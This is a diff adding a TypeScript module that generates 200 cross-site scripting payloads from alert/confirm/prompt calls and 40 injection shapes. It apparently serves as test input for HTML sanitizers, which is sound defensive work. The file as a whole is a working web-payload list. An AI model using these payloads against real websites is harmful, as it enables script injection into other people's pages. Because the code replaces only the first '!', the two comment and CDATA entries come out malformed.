@@ -1,0 +1,50 @@
+const RUN = ['alert(1)', 'alert`1`', "top['al'+'ert'](1)", 'confirm(1)', 'prompt(1)']
+
+/** A script in every place where a careless page would let it in: `!` stands for what it would run. */
+const SHAPES = [
+  '<script>!</script>',
+  '</script><script>!</script>',
+  '</title><script>!</script>',
+  '</textarea><script>!</script>',
+  '<SCRIPT SRC=data:text/javascript,!></SCRIPT>',
+  '<img src=x onerror=!>',
+  '"><img src=x onerror=!>',
+  "'><img src=x onerror=!>",
+  '<svg onload=!>',
+  '<svg><script>!</script></svg>',
+  '<svg><animate onbegin=! attributeName=x dur=1s>',
+  '<body onload=!>',
+  '<details open ontoggle=!>',
+  '<input autofocus onfocus=!>',
+  '" autofocus onfocus="!',
+  "' autofocus onfocus='!",
+  '" onmouseover="!" x="',
+  'javascript:!',
+  ' javascript:!',
+  'JaVaScRiPt:!',
+  'java\tscript:!',
+  'data:text/html,<script>!</script>',
+  '<a href="javascript:!" autofocus>x</a>',
+  '<iframe srcdoc="<script>!</script>">',
+  '<iframe src="javascript:!">',
+  '<object data="javascript:!">',
+  '<embed src="javascript:!">',
+  '<form action="javascript:!"><button>x',
+  '<base href="javascript:!//">',
+  '<meta http-equiv=refresh content="0;url=javascript:!">',
+  '<link rel=stylesheet href="javascript:!">',
+  '<style>@import "javascript:!";</style>',
+  '<math><mi xlink:href="javascript:!">x',
+  '<!--><script>!</script>',
+  '<![CDATA[<script>!</script>]]>',
+  '\\u003cscript\\u003e!\\u003c/script\\u003e',
+  '&lt;script&gt;!&lt;/script&gt;',
+  '%3Cscript%3E!%3C/script%3E',
+  '{{!}}',
+  '${!}',
+]
+
+/** Two hundred, all different. */
+export const SCRIPT_PAYLOADS: readonly string[] = RUN.flatMap((run) =>
+  SHAPES.map((shape) => shape.replace('!', run)),
+)
